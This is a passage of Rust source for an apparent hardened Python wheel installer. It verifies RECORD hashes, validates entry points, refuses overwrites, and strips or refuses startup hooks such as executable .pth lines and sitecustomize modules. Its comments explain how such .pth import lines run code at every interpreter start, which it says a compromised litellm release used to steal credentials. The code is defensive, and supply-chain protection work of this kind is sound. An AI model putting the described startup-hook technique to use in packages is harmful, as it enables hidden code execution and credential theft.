//! Installing one verified wheel into a virtual environment being built.
//!
//! This is what pip and uv do when they install a wheel (the "binary
//! distribution format", <https://packaging.python.org/en/latest/specifications/binary-distribution-format/>),
//! minus everything that could run code or write outside the environment:
//!
//! - The archive is checked member by member first ([`open_wheel_from`]).
//! - The wheel must be the distribution it was fetched as: its one
//!   `<name>-<version>.dist-info` directory names `name` and `version`.
//! - Every file must be listed in the wheel's `RECORD` with its sha256 and
//!   size, and every `RECORD` row must name a file: pip and uv check the same.
//!   Sizes are compared before anything is written, hashes while streaming.
//! - Startup hooks are refused before anything is written: a `.pth` file at
//!   the top of `site-packages` whose lines start with `import` is executed by
//!   `site.py` whenever *any* program starts this Python
//!   (<https://docs.python.org/3/library/site.html>), which is how the
//!   compromised litellm 1.82.8 ran its credential stealer
//!   (<https://github.com/BerriAI/litellm/issues/24512>). Lines are split as
//!   every supported Python splits them ([`pth_pieces`]). For the same reason
//!   `sitecustomize`/`usercustomize` modules, which `site.py` imports at every
//!   start, and files in `bin/` that a console script would import in place
//!   of a module ([`startup_hook`]) are judged by the same policy: left out
//!   and reported (`Strip`), or refused.
//! - Console scripts are written by safex from `entry_points.txt`, and only
//!   for entries of the form `module:attr`, so that an entry point cannot
//!   smuggle code into the script or a name out of the scripts directory.
//! - Every file is created with `create_new`: two wheels that install the same
//!   path are refused rather than letting the later one win.
//!
//! On an error, files may already have been written: the caller installs into
//! a private staging directory and deletes it on any error.

// What to do with `.pth` files that land at the top of `site-packages` is
// the policy's `python.pth`: `Strip` keeps setuptools'
// `distutils-precedence.pth`, coverage's `a1_coverage.pth` and namespace
// packages' `-nspkg.pth` working, without the lines `site.py` would run.
use crate::policy::PthPolicy;
use std::collections::HashMap;
use std::collections::hash_map::Entry;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::str::FromStr;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use crate::archive::Limits;
use crate::archive::zip::{FileDigest, Member, ValidatedZip, open_wheel_from};
use crate::error::{Error, Result};

/// Where the parts of a wheel go in the environment (the install scheme).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VenvLayout {
    /// `site-packages` for pure-Python code.
    pub purelib: PathBuf,
    /// `site-packages` for platform code (usually the same directory).
    pub platlib: PathBuf,
    /// `bin` (`Scripts` on Windows).
    pub scripts: PathBuf,
    /// The environment's root, for `.data/data/`.
    pub data: PathBuf,
    /// `include`; headers go to `include/<name>/`.
    pub include: PathBuf,
    /// The environment's Python, written into script shebangs.
    pub python: PathBuf,
}

/// A `[console_scripts]` entry: `name = module:attr`, or `name = module`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EntryPoint {
    pub name: String,
    pub module: String,
    pub attr: String,
}

/// What [`install_wheel`] installed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstalledWheel {
    /// The console scripts written to the scripts directory.
    pub console_scripts: Vec<EntryPoint>,
    /// Files unpacked from the wheel (not counting generated console scripts
    /// and `INSTALLER`).
    pub files: u64,
    /// `.pth` files installed without their executable lines (`Strip`):
    /// each as `name (line N: text)`.
    pub stripped: Vec<String>,
}

/// Largest `RECORD`, `WHEEL`, `entry_points.txt` or `.pth` read into memory.
const METADATA_MAX: u64 = 16 * 1024 * 1024;

/// Longest interpreter path written as a plain `#!` line: Linux before 5.1
/// reads 128 bytes of it, including `#!` and the newline.
const SHEBANG_MAX: usize = 125;

const HINT_MALFORMED: &str = "the bytes matched the expected hash, \
    so the published wheel itself is malformed";
const HINT_RECORD: &str = "the wheel matched its expected hash, so it was published with files \
    that differ from its own `RECORD`; pip and uv refuse it too";
const HINT_ENTRY: &str = "an entry point must be `name = module:attr` with a plain file name \
    and dotted Python names; anything else could run other code or write outside `bin`";
const HINT_PTH: &str = "`site.py` executes every `.pth` line that starts with `import`, \
    in every program that uses this Python; the compromised litellm 1.82.8 stole credentials \
    this way (https://github.com/BerriAI/litellm/issues/24512)";
const HINT_HOOK: &str = "Python imports such a file in place of the module it is named \
    after, in every program that uses this environment; policy `python.pth = \"strip\"` \
    installs the package without it, and says so";
const HINT_PTH_ALL: &str = "the policy refuses every `.pth` file; \
    set `.pth` handling to refuse only executable ones to allow path-only files";
const HINT_OVERWRITE: &str = "two packages in one environment install one file with \
    different contents; safex refuses rather than let whichever installs last win \
    (byte-identical copies, as namespace packages ship, are fine)";

/// The files the wheels of one environment have claimed, with the sha256
/// their `RECORD` gives, so that wheels installed in parallel agree on who
/// writes a path.
///
/// Namespace packages ship one byte-identical file in several wheels
/// (`databricks-sdk` and `databricks-ai-search` both ship
/// `databricks/__init__.py`); pip and uv install them silently, and so does
/// safex: the first wheel to claim the path writes it, the others skip it
/// (their copy has the same RECORD hash, and the written one is checked
/// against it). Two *different* files for one path are refused, naming both
/// wheels: pip would let whichever installs last win, and safex installs in
/// parallel, so "last" would not even be the same from one launch to the
/// next.
#[derive(Default)]
pub struct SharedFiles {
    /// Path → the wheel that writes it, and the sha256 its RECORD gives.
    claimed: std::sync::Mutex<HashMap<PathBuf, Claim>>,
}

type Claim = (String, Option<[u8; 32]>);

impl SharedFiles {
    /// `Ok(true)`: this wheel writes `path`; `Ok(false)`: another wheel
    /// writes the same bytes; `Err`: the wheel that writes other bytes.
    fn claim(&self, path: &Path, label: &str, sha256: Option<[u8; 32]>) -> Result<bool, String> {
        let mut claimed = self.claimed.lock().unwrap_or_else(|e| e.into_inner());
        match claimed.get(path) {
            None => {
                claimed.insert(path.to_owned(), (label.to_owned(), sha256));
                Ok(true)
            }
            Some((_, Some(h))) if sha256 == Some(*h) => Ok(false),
            Some((other, _)) => Err(other.clone()),
        }
    }
}

/// Install the wheel at `whl` (bytes already verified against the lock or
/// the index) into `layout`, one of the environment's wheels that share
/// `shared`. `name` (PEP 503-normalized) and `version` are what the wheel
/// was fetched as; its `.dist-info` directory must agree.
pub fn install_wheel(
    whl: &Path,
    layout: &VenvLayout,
    name: &str,
    version: &str,
    pth: PthPolicy,
    limits: &Limits,
    shared: &SharedFiles,
) -> Result<InstalledWheel> {
    let file = fs_err::File::open(whl)?;
    install_wheel_from(file, layout, name, version, pth, limits, shared)
}

/// [`install_wheel`] from an open file (a [`crate::fetch::Verified`]
/// handle: the bytes that were hashed are the bytes installed).
pub fn install_wheel_from(
    whl: fs_err::File,
    layout: &VenvLayout,
    name: &str,
    version: &str,
    pth: PthPolicy,
    limits: &Limits,
    shared: &SharedFiles,
) -> Result<InstalledWheel> {
    // Cached wheels are named by their hash; messages name the package.
    let label = format!("{name}=={version}");
    let mut zip = open_wheel_from(whl, &label, limits)?;
    let dist_info = find_dist_info(&zip, name, version)?;
    let stem = dist_info.trim_end_matches(".dist-info").to_owned();
    let data_dir = format!("{stem}.data");
    let ctx = Ctx {
        label: &label,
        layout,
    };

    // RECORD first: every file read into memory is then checked at once.
    let record_name = format!("{dist_info}/RECORD");
    let record_member = zip
        .file(&record_name)
        .cloned()
        .ok_or_else(|| ctx.integrity(format!("has no `{record_name}`")))?;
    let (record_bytes, _) = zip.read(&record_member, METADATA_MAX)?;
    let record = Record::parse(&record_bytes, &dist_info).map_err(|e| ctx.integrity(e))?;
    record.check_listing(&zip).map_err(|e| ctx.integrity(e))?;
    let mut loaded: HashMap<String, Vec<u8>> = HashMap::new();
    loaded.insert(record_name, record_bytes);

    let wheel_name = format!("{dist_info}/WHEEL");
    let root_is_purelib = {
        let bytes = ctx.load(&mut zip, &record, &wheel_name, &mut loaded)?;
        parse_wheel_file(&bytes).map_err(|e| ctx.refuse(format!("has a `{wheel_name}` {e}")))?
    };
    if zip.file(&format!("{dist_info}/INSTALLER")).is_some() {
        return Err(ctx.refuse(format!("ships its own `{dist_info}/INSTALLER`")));
    }
    let installer = if root_is_purelib {
        &layout.purelib
    } else {
        &layout.platlib
    }
    .join(&dist_info)
    .join("INSTALLER");

    // Where each file goes; refuse unknown `.data` keys and files that would
    // land on one path.
    let mut plan = Vec::new();
    let mut claimed = Claims::default();
    ctx.claim(&mut claimed, &installer, "`INSTALLER`")?;
    for member in zip.files() {
        let dest = destination(&member.name, &data_dir, root_is_purelib, layout, name)
            .map_err(|e| ctx.refuse(e))?;
        ctx.claim(&mut claimed, &dest.path, &format!("`{}`", member.name))?;
        plan.push((member.clone(), dest));
    }

    // Startup hooks, before anything is written.
    let mut stripped = Vec::new();
    let mut strip = std::collections::HashSet::new();
    let mut dropped = std::collections::HashSet::new();
    for (member, dest) in &plan {
        match startup_hook(dest) {
            None => {}
            Some(hook @ (Hook::Customize | Hook::Shadow(_))) => {
                let why = hook.why();
                // A file in `bin/` is never what safex launches (only console
                // scripts are, and those take `bin/` off `sys.path`), so it is
                // left out in every mode rather than refusing the tree:
                // jmespath, under boto3, ships `.data/scripts/jp.py`.
                if pth == PthPolicy::Strip || matches!(hook, Hook::Shadow(_)) {
                    stripped.push(format!("`{}` ({why}: not installed)", member.name));
                    dropped.insert(member.name.clone());
                    continue;
                }
                return Err(ctx
                    .refuse(format!("has `{}`, {why}", member.name))
                    .with_hint(HINT_HOOK));
            }
            Some(Hook::Pth) if pth == PthPolicy::RefuseAll => {
                return Err(ctx
                    .refuse(format!(
                        "has a `.pth` file `{}`, and `.pth` files are refused",
                        member.name
                    ))
                    .with_hint(HINT_PTH_ALL));
            }
            Some(Hook::Pth) => {
                let bytes = ctx.load(&mut zip, &record, &member.name, &mut loaded)?;
                if let Some((line, text)) = executable_pth_line(&bytes) {
                    if pth == PthPolicy::Strip {
                        stripped.push(format!("`{}` (line {line}: `{text}`)", member.name));
                        strip.insert(member.name.clone());
                        continue;
                    }
                    return Err(ctx
                        .refuse(format!(
                            "has `{}`, which would run code at every Python start \
                             (line {line}: `{text}`), as the compromised litellm 1.82.8 did",
                            member.name
                        ))
                        .with_hint(HINT_PTH));
                }
            }
        }
    }
    plan.retain(|(member, _)| !dropped.contains(&member.name));

    // Console scripts, validated and placed before anything is written.
    let entry_points_name = format!("{dist_info}/entry_points.txt");
    let console_scripts = if zip.file(&entry_points_name).is_some() {
        let bytes = ctx.load(&mut zip, &record, &entry_points_name, &mut loaded)?;
        let text = std::str::from_utf8(&bytes)
            .map_err(|_| ctx.refuse(format!("has a `{entry_points_name}` that is not UTF-8")))?;
        parse_entry_points(text).map_err(|e| ctx.refuse(e).with_hint(HINT_ENTRY))?
    } else {
        Vec::new()
    };
    let header = shebang(&layout.python)?;
    for ep in &console_scripts {
        let what = format!("console script `{}`", ep.name);
        ctx.claim(&mut claimed, &layout.scripts.join(&ep.name), &what)?;
    }

    // Write.
    for (member, dest) in &plan {
        match shared.claim(&dest.path, &label, record.sha256_of(&member.name)) {
            Ok(true) => {}
            Ok(false) => continue,
            Err(other) => {
                return Err(ctx
                    .refuse(format!(
                        "installs `{}`, which `{other}` installs with other contents",
                        member.name
                    ))
                    .with_hint(HINT_OVERWRITE));
            }
        }
        if strip.contains(&member.name) {
            // Checked against RECORD as published, then written without
            // the lines that would run, or not at all if nothing is left.
            let bytes = loaded.remove(&member.name).unwrap_or_default();
            record
                .check_digest(&member.name, &FileDigest::of(&bytes))
                .map_err(|e| ctx.integrity(e))?;
            let kept = path_only_pth(&bytes);
            if !kept.is_empty() {
                let mut file = ctx.create(&dest.path, &format!("`{}`", member.name), &dist_info)?;
                file.write_all(&kept)?;
                set_file_mode(&file, false)?;
            }
            continue;
        }
        let file = ctx.create(&dest.path, &format!("`{}`", member.name), &dist_info)?;
        let executable = member.executable || dest.scheme == Scheme::Scripts;
        let mut out = BufWriter::new(&file);
        let digest = if dest.scheme == Scheme::Scripts {
            let mut fixed = ShebangFix::new(&mut out, header.as_bytes());
            let digest = ctx.copy(&mut zip, member, &mut loaded, &mut fixed)?;
            fixed.finish()?;
            digest
        } else {
            ctx.copy(&mut zip, member, &mut loaded, &mut out)?
        };
        out.flush()?;
        drop(out);
        record
            .check_digest(&member.name, &digest)
            .map_err(|e| ctx.integrity(e))?;
        set_file_mode(&file, executable)?;
    }
    for ep in &console_scripts {
        let path = layout.scripts.join(&ep.name);
        let what = format!("console script `{}`", ep.name);
        let mut file = ctx.create(&path, &what, &dist_info)?;
        file.write_all(script(&header, ep).as_bytes())?;
        set_file_mode(&file, true)?;
    }
    let mut file = ctx.create(&installer, "`INSTALLER`", &dist_info)?;
    file.write_all(b"safex\n")?;
    set_file_mode(&file, false)?;

    Ok(InstalledWheel {
        console_scripts,
        files: plan.len() as u64,
        stripped,
    })
}

/// Paths this wheel will create, lowercased, with the member that needs them.
#[derive(Default)]
struct Claims {
    files: HashMap<String, String>,
    dirs: HashMap<String, String>,
}

/// What messages need: which wheel, where it goes.
struct Ctx<'a> {
    label: &'a str,
    layout: &'a VenvLayout,
}

impl Ctx<'_> {
    fn refuse(&self, what: impl std::fmt::Display) -> Error {
        Error::unsafe_pkg(format!("wheel `{}` {what}", self.label)).with_hint(HINT_MALFORMED)
    }

    fn integrity(&self, what: impl std::fmt::Display) -> Error {
        Error::integrity(format!("wheel `{}` {what}", self.label)).with_hint(HINT_RECORD)
    }

    /// Read a small file into `loaded` (once) and check it against RECORD.
    fn load(
        &self,
        zip: &mut ValidatedZip,
        record: &Record,
        name: &str,
        loaded: &mut HashMap<String, Vec<u8>>,
    ) -> Result<Vec<u8>> {
        if let Some(bytes) = loaded.get(name) {
            return Ok(bytes.clone());
        }
        let member = zip
            .file(name)
            .cloned()
            .ok_or_else(|| self.refuse(format!("has no `{name}`")))?;
        let (bytes, digest) = zip.read(&member, METADATA_MAX)?;
        record
            .check_digest(name, &digest)
            .map_err(|e| self.integrity(e))?;
        loaded.insert(name.to_owned(), bytes.clone());
        Ok(bytes)
    }

    /// Write a member to `out`: from memory if it was loaded, else streamed.
    fn copy(
        &self,
        zip: &mut ValidatedZip,
        member: &Member,
        loaded: &mut HashMap<String, Vec<u8>>,
        out: &mut dyn Write,
    ) -> Result<FileDigest> {
        match loaded.remove(&member.name) {
            Some(bytes) => {
                out.write_all(&bytes)?;
                Ok(FileDigest::of(&bytes))
            }
            None => zip.copy_to(member, out),
        }
    }

    /// Refuse two files of this wheel that land on one path (also when the
    /// names differ only in case), or one below the other. `what` names the
    /// member or script in backticks.
    fn claim(&self, claims: &mut Claims, path: &Path, what: &str) -> Result<()> {
        let key = |p: &Path| p.to_string_lossy().to_lowercase();
        let clash = |other: &str, how: String| {
            self.refuse(format!("installs both {other} and {what} {how}"))
                .with_hint(HINT_OVERWRITE)
        };
        let file = key(path);
        if let Some(other) = claims.files.get(&file) {
            return Err(clash(other, format!("as `{}`", path.display())));
        }
        if let Some(other) = claims.dirs.get(&file) {
            return Err(clash(
                other,
                format!("where one needs the directory `{}`", path.display()),
            ));
        }
        for dir in path.ancestors().skip(1) {
            let dir_key = key(dir);
            if let Some(other) = claims.files.get(&dir_key) {
                return Err(clash(
                    other,
                    format!("where one needs the directory `{}`", dir.display()),
                ));
            }
            claims
                .dirs
                .entry(dir_key)
                .or_insert_with(|| what.to_owned());
        }
        claims.files.insert(file, what.to_owned());
        Ok(())
    }

    /// Create `path` (and its parents) for `what` (a member or script, in
    /// backticks, for messages); never overwrite.
    fn create(&self, path: &Path, what: &str, dist_info: &str) -> Result<fs_err::File> {
        if let Some(parent) = path.parent()
            && let Err(e) = fs_err::create_dir_all(parent)
        {
            let blocker = parent
                .ancestors()
                .find(|a| a.symlink_metadata().is_ok_and(|m| !m.is_dir()));
            return Err(match blocker {
                Some(file) => self
                    .refuse(format!(
                        "would install {what} below `{}`, which is a file already installed",
                        file.display()
                    ))
                    .with_hint(HINT_OVERWRITE),
                None => e.into(),
            });
        }
        fs_err::File::create_new(path).map_err(|e| {
            if e.kind() != io::ErrorKind::AlreadyExists {
                return e.into();
            }
            let owner = owner_of(self.layout, path, dist_info)
                .map_or_else(|| "an earlier wheel".to_owned(), |o| format!("`{o}`"));
            self.refuse(format!(
                "would overwrite `{}` with {what}; {owner} already installed it",
                path.display()
            ))
            .with_hint(HINT_OVERWRITE)
        })
    }
}

/// Find the one `<name>-<version>.dist-info` directory and check that it
/// names the distribution the wheel was fetched as.
fn find_dist_info(zip: &ValidatedZip, name: &str, version: &str) -> Result<String> {
    let label = zip.label();
    let refuse = |what: String, hint: &str| {
        Error::unsafe_pkg(format!("wheel `{label}` {what}")).with_hint(hint)
    };
    let mut found: Vec<&str> = zip
        .files()
        .iter()
        .filter_map(|m| m.name.split_once('/').map(|(top, _)| top))
        .filter(|top| top.ends_with(".dist-info"))
        .collect();
    found.sort_unstable();
    found.dedup();
    let dir = match found.as_slice() {
        [one] => *one,
        [] => {
            return Err(refuse(
                "has no `.dist-info` directory".to_owned(),
                HINT_MALFORMED,
            ));
        }
        many => {
            return Err(refuse(
                format!(
                    "has more than one `.dist-info` directory (`{}`)",
                    many.join("`, `")
                ),
                HINT_MALFORMED,
            ));
        }
    };
    let stem = dir.trim_end_matches(".dist-info");
    let same = stem.split_once('-').is_some_and(|(dist, ver)| {
        normalize(dist) == normalize(name) && same_version(ver, version)
    });
    if !same {
        return Err(refuse(
            format!("holds `{dir}`, which is not `{name}` version `{version}`"),
            "the file is not the package it was listed as; \
             a wheel must hold the distribution named in its file name",
        ));
    }
    Ok(dir.to_owned())
}

/// PEP 503 normalization: lowercase, runs of `-`, `_`, `.` become one `-`.
fn normalize(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut in_run = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !in_run {
                out.push('-');
            }
            in_run = true;
        } else {
            out.extend(c.to_lowercase());
            in_run = false;
        }
    }
    out
}

/// Equal as PEP 440 versions (`1.0` == `1.0.0`), or as strings if either
/// does not parse.
fn same_version(a: &str, b: &str) -> bool {
    match (
        pep440_rs::Version::from_str(a),
        pep440_rs::Version::from_str(b),
    ) {
        (Ok(a), Ok(b)) => a == b,
        _ => a == b,
    }
}

/// The `WHEEL` file: `Wheel-Version` major 1; `Root-Is-Purelib` decides
/// where the root of the archive goes. Returns `Root-Is-Purelib`.
fn parse_wheel_file(bytes: &[u8]) -> Result<bool, String> {
    let text = std::str::from_utf8(bytes).map_err(|_| "that is not UTF-8".to_owned())?;
    let mut wheel_version = None;
    let mut purelib = None;
    for line in text.lines() {
        let Some((key, value)) = line.split_once(':') else {
            continue;
        };
        let (key, value) = (key.trim(), value.trim());
        if key.eq_ignore_ascii_case("Wheel-Version") {
            wheel_version = Some(value);
        } else if key.eq_ignore_ascii_case("Root-Is-Purelib") {
            purelib = Some(value);
        }
    }
    let wheel_version = wheel_version.ok_or("without `Wheel-Version`")?;
    if wheel_version.split('.').next() != Some("1") {
        return Err(format!(
            "with `Wheel-Version: {wheel_version}`; safex installs version 1 wheels"
        ));
    }
    match purelib {
        Some(v) if v.eq_ignore_ascii_case("true") => Ok(true),
        Some(v) if v.eq_ignore_ascii_case("false") => Ok(false),
        Some(v) => Err(format!(
            "with `Root-Is-Purelib: {v}`, not `true` or `false`"
        )),
        None => Err("without `Root-Is-Purelib`".to_owned()),
    }
}

/// One row of a `RECORD`: path, sha256 (none for `RECORD` itself and its
/// signatures), size.
pub type RecordRow = (String, Option<[u8; 32]>, Option<u64>);

/// The rows of an installed `RECORD` (for `safex cache verify --deep`).
pub fn record_rows(bytes: &[u8], dist_info: &str) -> Result<Vec<RecordRow>, String> {
    let record = Record::parse(bytes, dist_info)?;
    let mut rows: Vec<_> = record
        .rows
        .into_iter()
        .map(|(path, (hash, size))| (path, hash, size))
        .collect();
    rows.sort();
    Ok(rows)
}

/// Is this `.pth` content what safex leaves of a `.pth` after stripping
/// its executable lines (so it may differ from `RECORD` by design)?
pub fn is_stripped_pth(bytes: &[u8]) -> bool {
    path_only_pth(bytes) == bytes
}

/// The wheel's `RECORD`: sha256 and size for every file but itself.
struct Record {
    dist_info: String,
    rows: HashMap<String, (Option<[u8; 32]>, Option<u64>)>,
}

impl Record {
    fn parse(bytes: &[u8], dist_info: &str) -> Result<Self, String> {
        let text = std::str::from_utf8(bytes)
            .map_err(|_| format!("has a `{dist_info}/RECORD` that is not UTF-8"))?;
        let mut rows = HashMap::new();
        for (line, row) in parse_csv(text)
            .map_err(|e| format!("has a `{dist_info}/RECORD` that is not valid CSV: {e}"))?
        {
            let [path, hash, size] = <[String; 3]>::try_from(row).map_err(|row| {
                format!(
                    "has a `{dist_info}/RECORD` whose line {line} has {} fields, not 3",
                    row.len()
                )
            })?;
            let exempt = is_signature_file(&path, dist_info);
            let hash = match (hash.as_str(), exempt) {
                ("", true) => None,
                (hash, _) => Some(parse_hash(hash).map_err(|e| {
                    format!("has a `{dist_info}/RECORD` whose row for `{path}` {e}")
                })?),
            };
            let size = match (size.as_str(), exempt) {
                ("", true) => None,
                (size, _) => Some(size.parse::<u64>().map_err(|_| {
                    format!("has a `{dist_info}/RECORD` whose row for `{path}` has size `{size}`")
                })?),
            };
            match rows.entry(path) {
                Entry::Vacant(v) => {
                    v.insert((hash, size));
                }
                Entry::Occupied(o) if *o.get() == (hash, size) => {}
                Entry::Occupied(o) => {
                    return Err(format!(
                        "has a `{dist_info}/RECORD` that lists `{}` twice, differently",
                        o.key()
                    ));
                }
            }
        }
        Ok(Record {
            dist_info: dist_info.to_owned(),
            rows,
        })
    }

    /// Every file listed with its declared size, every row a file.
    fn check_listing(&self, zip: &ValidatedZip) -> Result<(), String> {
        for member in zip.files() {
            if is_signature_file(&member.name, &self.dist_info) {
                continue;
            }
            match self.rows.get(&member.name) {
                None => {
                    return Err(format!(
                        "has a file `{}` that its RECORD does not list",
                        member.name
                    ));
                }
                Some((_, Some(size))) if *size != member.size => {
                    return Err(format!(
                        "has a file `{}` of {} bytes, but its RECORD says {size}",
                        member.name, member.size
                    ));
                }
                Some(_) => {}
            }
        }
        let mut missing: Vec<&String> = self
            .rows
            .keys()
            .filter(|p| !is_signature_file(p, &self.dist_info) && zip.file(p).is_none())
            .collect();
        missing.sort_unstable();
        match missing.first() {
            Some(path) => Err(format!("lists `{path}` in its RECORD but has no such file")),
            None => Ok(()),
        }
    }

    /// The sha256 `RECORD` lists for `name`.
    fn sha256_of(&self, name: &str) -> Option<[u8; 32]> {
        self.rows.get(name).and_then(|(h, _)| *h)
    }

    fn check_digest(&self, name: &str, digest: &FileDigest) -> Result<(), String> {
        if is_signature_file(name, &self.dist_info) {
            return Ok(());
        }
        let Some((hash, size)) = self.rows.get(name) else {
            return Err(format!("has a file `{name}` that its RECORD does not list"));
        };
        if *size != Some(digest.size) {
            return Err(format!(
                "has a file `{name}` of {} bytes, but its RECORD says {}",
                digest.size,
                size.map_or_else(|| "nothing".to_owned(), |s| s.to_string())
            ));
        }
        if *hash != Some(digest.sha256) {
            return Err(format!(
                "has a file `{name}` whose sha256 differs from its RECORD \
                 (RECORD: `{}`, file: `sha256={}`)",
                hash.map_or_else(String::new, |h| format!(
                    "sha256={}",
                    URL_SAFE_NO_PAD.encode(h)
                )),
                URL_SAFE_NO_PAD.encode(digest.sha256)
            ));
        }
        Ok(())
    }
}

/// `RECORD` itself and its signatures are not listed with hashes.
fn is_signature_file(path: &str, dist_info: &str) -> bool {
    path.strip_prefix(dist_info)
        .and_then(|rest| rest.strip_prefix('/'))
        .is_some_and(|f| matches!(f, "RECORD" | "RECORD.jws" | "RECORD.p7s"))
}

/// `sha256=<urlsafe base64, padding optional>`.
fn parse_hash(value: &str) -> Result<[u8; 32], String> {
    let Some((algo, b64)) = value.split_once('=') else {
        return Err(format!("has no hash (`{value}`)"));
    };
    if algo != "sha256" {
        return Err(format!("uses `{algo}`; safex checks sha256"));
    }
    URL_SAFE_NO_PAD
        .decode(b64.trim_end_matches('='))
        .ok()
        .and_then(|b| <[u8; 32]>::try_from(b).ok())
        .ok_or_else(|| format!("has a malformed sha256 `{b64}`"))
}

/// CSV as Python's `csv` module writes it: `,` between fields, `"` around
/// fields that need it, `""` for a quote inside them, `\n` or `\r\n` between
/// rows. Returns rows with their 1-based line numbers; blank lines are skipped.
fn parse_csv(text: &str) -> Result<Vec<(usize, Vec<String>)>, String> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false; // inside quotes
    let mut was_quoted = false; // this field was quoted
    let mut line = 1;
    let mut row_line = 1;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => {
                    if c == '\n' {
                        line += 1;
                    }
                    field.push(c);
                }
            }
            continue;
        }
        match c {
            '"' if field.is_empty() && !was_quoted => {
                quoted = true;
                was_quoted = true;
            }
            ',' => {
                row.push(std::mem::take(&mut field));
                was_quoted = false;
            }
            '\r' | '\n' => {
                if c == '\r' && chars.peek() == Some(&'\n') {
                    chars.next();
                }
                if !(row.is_empty() && field.is_empty() && !was_quoted) {
                    row.push(std::mem::take(&mut field));
                    rows.push((row_line, std::mem::take(&mut row)));
                }
                was_quoted = false;
                line += 1;
                row_line = line;
            }
            '"' => return Err(format!("line {line} has a stray quote")),
            _ if was_quoted => return Err(format!("line {line} has text after a closing quote")),
            c => field.push(c),
        }
    }
    if quoted {
        return Err(format!("line {row_line} has an unterminated quote"));
    }
    if !(row.is_empty() && field.is_empty() && !was_quoted) {
        row.push(field);
        rows.push((row_line, row));
    }
    Ok(rows)
}

/// The install scheme key a file goes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Scheme {
    Purelib,
    Platlib,
    Scripts,
    Data,
    Headers,
}

#[derive(Debug)]
struct Dest {
    path: PathBuf,
    scheme: Scheme,
    /// The path below the scheme's directory.
    rel: String,
}

/// Where the member `name` goes: the root of the wheel to purelib or
/// platlib, `<data_dir>/<key>/...` to the scheme directory `key`.
fn destination(
    name: &str,
    data_dir: &str,
    root_is_purelib: bool,
    layout: &VenvLayout,
    dist: &str,
) -> Result<Dest, String> {
    let root = if root_is_purelib {
        Scheme::Purelib
    } else {
        Scheme::Platlib
    };
    let (scheme, rel) = match name
        .strip_prefix(data_dir)
        .and_then(|r| r.strip_prefix('/'))
    {
        None => (root, name),
        Some(inner) => {
            let (key, rel) = inner.split_once('/').unwrap_or((inner, ""));
            let scheme = match key {
                "purelib" => Scheme::Purelib,
                "platlib" => Scheme::Platlib,
                "scripts" => Scheme::Scripts,
                "data" => Scheme::Data,
                "headers" => Scheme::Headers,
                _ => {
                    return Err(format!(
                        "has a file `{name}` for the unknown install location `{key}`"
                    ));
                }
            };
            if rel.is_empty() {
                return Err(format!(
                    "has a file `{name}` in place of the `{key}` directory"
                ));
            }
            (scheme, rel)
        }
    };
    let base = match scheme {
        Scheme::Purelib => layout.purelib.clone(),
        Scheme::Platlib => layout.platlib.clone(),
        Scheme::Scripts => layout.scripts.clone(),
        Scheme::Data => layout.data.clone(),
        Scheme::Headers => layout.include.join(dist),
    };
    let path = rel.split('/').fold(base, |p, c| p.join(c));
    Ok(Dest {
        path,
        scheme,
        rel: rel.to_owned(),
    })
}

enum Hook {
    /// A `.pth` file that `site.py` reads.
    Pth,
    /// A `sitecustomize` or `usercustomize` module.
    Customize,
    /// A module or package in the scripts directory, importable as this
    /// name by every script run from there.
    Shadow(String),
}

impl Hook {
    fn why(&self) -> String {
        match self {
            Hook::Pth => "a `.pth` file".to_owned(),
            Hook::Customize => "a module that Python would run at every start".to_owned(),
            Hook::Shadow(module) => format!(
                "which lands in `bin/`, the first directory on `sys.path` of a script \
                 run from there, where it would be imported as `{module}` ahead of \
                 the standard library and every installed package"
            ),
        }
    }
}

/// Whether a file would run at every Python start, or in place of a module.
///
/// - `.pth` files: `site.py` reads those at the top of `site-packages`.
///   `.data/data/` files are judged by their whole path: they may reach
///   `site-packages` through a `lib64` symlink or a case-insensitive file
///   system.
/// - `sitecustomize`/`usercustomize` (module, extension or package):
///   `site.py` imports them from anywhere on `sys.path` once the `.pth`
///   files are read: at the top of `site-packages` here; deeper ones
///   (opentelemetry-instrumentation ships one for its own launcher to put
///   on `PYTHONPATH`) only count when a `.pth` path line of some wheel puts
///   their directory on `sys.path`, which [`path_line_hooks`] checks once
///   the whole tree is installed. In the data tree a path component with
///   that name anywhere counts.
/// - The scripts directory is `sys.path[0]` of every console script (safex
///   runs `python bin/<script>`; neither `-I` nor `-P` is used, and 3.8 has
///   neither), so `bin/json.py`, `bin/json.cpython-312-x86_64-linux-gnu.so`,
///   `bin/json.pyc` or a directory `bin/json/` is imported as `json` ahead
///   of the standard library. `site.py` does not search `bin/` at start-up
///   (`sys.path[0]` is set after it ran), so `bin/sitecustomize.py` is such a
///   shadow, not a start-up hook. Plain scripts (`tool`, `tool-cli.py`, whose
///   names no `import` statement can spell) are fine.
fn startup_hook(dest: &Dest) -> Option<Hook> {
    let lower = dest.rel.to_lowercase();
    let is_customize = |c: &str| {
        ["sitecustomize", "usercustomize"]
            .iter()
            .any(|m| c == *m || c.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
    };
    match dest.scheme {
        Scheme::Purelib | Scheme::Platlib => {
            if !lower.contains('/') && lower.ends_with(".pth") {
                Some(Hook::Pth)
            } else if lower.split('/').next().is_some_and(is_customize) {
                Some(Hook::Customize)
            } else {
                None
            }
        }
        Scheme::Data => {
            if lower.ends_with(".pth") {
                Some(Hook::Pth)
            } else if lower.split('/').any(is_customize) {
                Some(Hook::Customize)
            } else {
                None
            }
        }
        Scheme::Scripts => shadowed_module(&dest.rel).map(Hook::Shadow),
        Scheme::Headers => None,
    }
}

/// Is `path` (a `RECORD` row of `dist_info`) a file the installer may have
/// left out by design: a `sitecustomize`/`usercustomize` anywhere, or a file
/// in `.data/scripts/` that shadows a module? For `cache verify --deep`,
/// where such a file's absence is not damage.
pub fn left_out_by_design(path: &str, dist_info: &str) -> bool {
